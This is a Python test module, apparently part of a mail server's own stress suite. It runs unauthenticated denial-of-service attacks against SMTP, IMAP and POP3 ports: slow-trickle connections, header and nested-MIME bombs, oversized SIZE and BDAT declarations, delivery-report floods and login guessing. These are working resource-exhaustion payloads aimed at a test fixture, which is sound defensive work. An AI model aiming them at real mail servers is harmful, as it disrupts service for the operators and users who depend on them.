"""Attacks without a login. Each runs until it is cancelled or cut off, and is then begun again."""

from __future__ import annotations

import asyncio
import itertools
import random
import ssl
import string
from collections.abc import Awaitable, Callable

from tests.attack.field import SILENT_DOMAINS, Victim, connected

Run = Callable[[Victim], Awaitable[None]]


async def say(port: int, data: bytes, *, repeat: int = 1, pause: float = 0.0, wait: bytes = b"") -> None:
    """After the greeting `wait` and its answer, then `bytes` again and again, then read to the end."""
    reader, writer = await connected(port)
    try:
        await reader.readline()
        if wait:
            writer.write(wait)
            await reader.readline()
        for _ in range(repeat):
            writer.write(data)
            await writer.drain()
            if pause:
                await asyncio.sleep(pause)
        writer.write_eof()
        while await reader.read(65536):
            pass
    finally:
        writer.close()


def slow_line(port: Callable[[Victim], int], begin: bytes) -> Run:
    """One byte now and then, of a line that never ends."""

    async def run(victim: Victim) -> None:
        await say(port(victim), b"x", wait=begin, repeat=10_000, pause=0.5)

    return run


def unending_noop(port: Callable[[Victim], int], command: bytes) -> Run:
    """Never a login, and always one more command."""

    async def run(victim: Victim) -> None:
        await say(port(victim), command, repeat=10_000, pause=0.5)

    return run


async def connects(victim: Victim) -> None:
    _, writer = await connected(victim.ports.smtp)
    writer.close()


async def pipelined_noops(victim: Victim) -> None:
    await say(victim.ports.smtp, b"NOOP\r\n" * 2000, wait=b"EHLO x\r\n")


async def endless_line(victim: Victim) -> None:
    await say(victim.ports.smtp, b"x" * 65536, repeat=64)


async def broken_handshake(victim: Victim) -> None:
    for port in (victim.ports.imaps, victim.ports.pop3s, victim.ports.submissions):
        reader, writer = await connected(port)
        try:
            writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.randbytes(506))
            await reader.read(65536)
        finally:
            writer.close()


async def header_bomb(victim: Victim) -> None:
    fields = b"".join(b"X-%d: %s\r\n" % (number, b"y" * 60) for number in range(14_000))
    await mail(victim, fields + b"\r\nx\r\n")


async def deep_mime(victim: Victim) -> None:
    nested = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (depth, depth) for depth in range(5000)
    )
    await mail(victim, b"MIME-Version: 1.0\r\n" + nested + b"\r\nx\r\n")


async def many_parts(victim: Victim) -> None:
    head = b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
    await mail(victim, head + b"--b\r\n\r\nx\r\n" * 100_000 + b"--b--\r\n")


async def slashes(victim: Victim) -> None:
    """One parameter after another that is none: each was a call of the parser by itself."""
    await mail(victim, b"MIME-Version: 1.0\r\nContent-Type: text" + b"\r\n / " * 20_000 + b"\r\n\r\nx\r\n")


async def mail(victim: Victim, content: bytes) -> None:
    envelope = b"MAIL FROM:<a@attacker.test>\r\nRCPT TO:<%s>\r\nDATA\r\n" % victim.mallory.encode()
    reader, writer = await connected(victim.ports.smtp)
    try:
        await reader.readline()
        writer.write(b"HELO attacker.test\r\n")
        await reader.readline()
        writer.write(envelope)
        for _ in range(3):
            await reader.readline()
        writer.write(content + b".\r\n")
        await writer.drain()
        await reader.readline()
    finally:
        writer.close()


async def declared_size(victim: Victim) -> None:
    """A message as large as may be, or half as large, and so on to the last byte that is left, of which a byte
    comes now and then."""
    await _trickle(victim, *((b" SIZE=%d" % (50 * 2**20 >> halves), b"DATA\r\n") for halves in range(26)))


_chunks = itertools.cycle((50, 50, 28))  # MiB: 128 together


async def declared_chunk(victim: Victim) -> None:
    """A chunk, likewise; there is no second try."""
    await _trickle(victim, (b"", b"BDAT %d\r\n" % (next(_chunks) * 2**20)))


async def _trickle(victim: Victim, *tries: tuple[bytes, bytes]) -> None:
    """Until the connection ends; the first parameter of MAIL and beginning of content that is taken."""
    reader, writer = await connected(victim.ports.smtp)
    try:
        await reader.readline()
        writer.write(b"EHLO attacker.test\r\n")
        while not (await reader.readline()).startswith(b"250 "):
            pass
        for parameter, content in tries:
            if await _begun(reader, writer, victim, parameter, content):
                break
        while not reader.at_eof():
            writer.write(b"x")
            await writer.drain()
            await asyncio.sleep(0.5)
    finally:
        writer.close()


async def _begun(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, victim: Victim, parameter: bytes, content: bytes
) -> bool:
    """One refusal at a time: too many end the session."""
    for data in (
        b"RSET\r\n",
        b"MAIL FROM:<a@attacker.test>%s\r\n" % parameter,
        b"RCPT TO:<%s>\r\n" % victim.mallory.encode(),
        content,
    ):
        writer.write(data)
        if data.startswith(b"BDAT"):
            return True  # it has no answer yet
        if not (await reader.readline()).startswith((b"2", b"3")):
            return False
    return True


async def parameters(victim: Victim) -> None:
    """MAIL with hundreds of parameters, one after another."""
    names = itertools.islice(itertools.product(string.ascii_uppercase, repeat=2), 660)
    line = f"MAIL FROM:<a@attacker.test> {' '.join(map(''.join, names))}\r\n".encode()
    await say(victim.ports.smtp, line, wait=b"EHLO attacker.test\r\n", repeat=100, pause=0.02)


async def many_wanted_reports(victim: Victim) -> None:
    await asyncio.gather(*(wanted_reports(victim) for _ in range(40)))


async def wanted_reports(victim: Victim) -> None:
    """Mail that makes us write to hosts that never say a word."""
    silent = random.randrange(SILENT_DOMAINS)
    reader, writer = await connected(victim.ports.smtp)
    try:
        await reader.readline()
        writer.write(b"EHLO attacker.test\r\n")
        while not (await reader.readline()).startswith(b"250 "):
            pass
        for _ in range(20):
            writer.write(
                b"MAIL FROM:<a%d@silent%d.test>\r\nRCPT TO:<%s> NOTIFY=SUCCESS\r\nDATA\r\n"
                % (random.randrange(1000), silent, victim.mallory.encode())
            )
            for _ in range(3):
                await reader.readline()
            writer.write(b"Subject: report\r\n\r\nx\r\n.\r\n")
            if not (await reader.readline()).startswith(b"250"):
                return
    finally:
        writer.close()


async def literal_before_login(victim: Victim) -> None:
    await say(victim.ports.imap, b"x" * 65536, wait=b"a LOGIN {4294967295+}\r\n", repeat=64)


async def deep_search(victim: Victim) -> None:
    await say(victim.ports.imap, b"a SEARCH " + b"(" * 7000 + b"\r\n", repeat=20)


async def guesses(victim: Victim) -> None:
    """Passwords for another user's account."""
    line = b'a LOGIN %s "a wrong password"\r\n' % victim.user.encode()
    await over_tls(victim.ports.imaps, victim.tls, line, repeat=3)


async def over_tls(port: int, tls: ssl.SSLContext, data: bytes, *, repeat: int) -> None:
    reader, writer = await connected(port, tls)
    try:
        await reader.readline()
        for _ in range(repeat):
            writer.write(data)
            if not await reader.readline():
                return
    finally:
        writer.close()
